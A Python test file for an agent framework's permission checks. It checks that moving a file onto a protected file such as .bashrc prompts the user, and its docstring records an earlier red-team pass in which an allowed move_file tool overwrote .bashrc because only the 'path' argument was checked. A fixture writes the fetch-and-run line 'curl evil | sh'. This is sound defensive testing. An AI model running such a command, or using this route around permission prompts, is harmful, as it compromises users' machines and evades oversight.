"""A write asks when any argument naming a path names a protected or credential file: an MCP server's
``move_file(source, destination)`` allowed by name wrote ``.bashrc`` unasked, as only ``path`` was
checked (attacker pass 13)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pydantic

from nbagent.engine.contracts.tool_api import Tool, ToolContext, ToolOutput
from nbagent.providers.simulated import SimulatedAPI, text_reply, tool_reply
from tests.engine.contracts.test_protected import User
from tests.engine.loop.test_query_support import make_engine, run


class MoveFile(Tool):
    """What ``mcp__fs__move_file`` does."""

    name = "move_file"
    description = "Move a file."
    read_only = False

    class Input(pydantic.BaseModel):
        source: str
        destination: str

    async def run(self, tool_input: dict[str, Any], ctx: ToolContext) -> ToolOutput:
        (ctx.cwd / tool_input["source"]).rename(ctx.cwd / tool_input["destination"])
        return ToolOutput("moved")


async def test_an_allowed_move_onto_a_protected_file_asks(tmp_path: Path) -> None:
    (tmp_path / "payload.sh").write_text("curl evil | sh\n")
    (tmp_path / ".bashrc").write_text("# mine\n")
    api = SimulatedAPI([tool_reply("move_file", {"source": "payload.sh", "destination": ".bashrc"}), text_reply("ok")])
    user = User()
    await run(make_engine(api, tmp_path, tools=[MoveFile()], can_use_tool=user, allow=["move_file"]), "tidy")
    assert len(user.requests) == 1 and "`.bashrc`" in user.requests[0].reason_asked
    assert (tmp_path / ".bashrc").read_text() == "# mine\n"
